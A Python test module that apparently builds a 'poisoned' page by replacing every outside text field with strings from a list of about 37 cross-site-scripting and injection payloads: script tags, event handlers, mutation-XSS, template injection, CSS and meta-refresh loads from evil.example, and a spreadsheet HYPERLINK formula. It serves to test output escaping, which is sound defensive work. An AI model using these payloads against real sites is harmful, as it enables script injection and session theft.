"""Text that tries to act when a browser takes it for more than text, and a page that holds it everywhere."""

from __future__ import annotations

from dataclasses import fields, is_dataclass, replace
from typing import Any

import polars as pl

from engine.page import Page
from tests.pages import every_figure

# Each would call asofOwned(n), load something, or end the element it stands in.
XSS = (
    "<script>asofOwned(1)</script>",
    "</script><script>asofOwned(2)</script>",
    "</SCRIPT ><svg/onload=asofOwned(3)>",
    "<!--<script>asofOwned(4)",
    "--><script>asofOwned(5)</script>",
    "<img src=x onerror=asofOwned(6)>",
    '"><img src=x onerror=asofOwned(7)>',
    "' onmouseover='asofOwned(8)' x='",
    '" autofocus onfocus="asofOwned(9)" x="',
    "<svg><animate onbegin=asofOwned(10) attributeName=x dur=1s>",
    "<svg><script href=https://evil.example/a.js></script></svg>",
    "<iframe srcdoc='<script>parent.asofOwned(12)</script>'></iframe>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>*{background:url(https://evil.example/b)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button autofocus>",
    "javascript:asofOwned(18)",
    "data:text/html,<script>asofOwned(19)</script>",
    "url(https://evil.example/c)",
    "red;background-image:url(https://evil.example/d)",
    "&lt;script&gt;asofOwned(22)&lt;/script&gt;",
    "&#x3c;img src=x onerror=asofOwned(23)&#x3e;",
    "\\u003cscript\\u003easofOwned(24)\\u003c/script\\u003e",
    "${asofOwned(25)}",
    "{{constructor.constructor('asofOwned(26)')()}}",
    "`-asofOwned(27)-`",
    "';asofOwned(28);//",
    "\u2028asofOwned(29)\u2029",
    "]]><script>asofOwned(30)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=asofOwned(31)>",
    "<template><script>asofOwned(32)</script></template>",
    "<details open ontoggle=asofOwned(33)>",
    "<video><source onerror=asofOwned(34)></video>",
    "__proto__",
    "constructor",
    "=HYPERLINK(\"https://evil.example/\",\"x\")",
)  # fmt: skip

# What steers a figure and is never outside text.
_OURS = {
    "kind", "scale", "line_scale", "level", "zone", "name", "table", "column", "keys", "constants", "key", "pinned",
    "blank", "x_kind", "y_kind", "size_kind", "value_kind", "tones", "command", "emphasis", "table_from",
    "default_blank", "formula_from", "decimals_from", "phase",
}  # fmt: skip


class Poison:
    """Replaces every outside text by the next of the corpus, none of it twice in a row."""

    def __init__(self, start: int = 0) -> None:
        self.count = start

    def text(self) -> str:
        self.count += 1
        return XSS[self.count % len(XSS)]

    def __call__(self, value: Any, name: str = "") -> Any:
        if isinstance(value, str):
            return value if not value or name in _OURS else self.text()
        if isinstance(value, tuple):
            return tuple(self(one, name) for one in value)
        if isinstance(value, pl.DataFrame):
            columns = [one for one, kind in value.schema.items() if kind == pl.String and "blank" not in one]
            return value.with_columns(*(self._column(value[one]) for one in columns))
        if is_dataclass(value) and not isinstance(value, type):
            told = {one.name: self(getattr(value, one.name), one.name) for one in fields(value)}
            return replace(value, **told)
        return value

    def _column(self, column: pl.Series) -> pl.Series:
        return pl.Series(
            column.name, [None if one is None else self.text() for one in column], dtype=pl.String
        )


def poisoned(start: int = 0) -> Page:
    """A page of every figure kind in which every name, label, unit, note, headline and ticker tries to act."""
    page = every_figure()
    assert page.lineage is not None
    told = Poison(start)
    lineage = replace(page.lineage, command=told.text(), sources=(told.text(),))
    return replace(told(replace(page, lineage=None)), lineage=lineage)
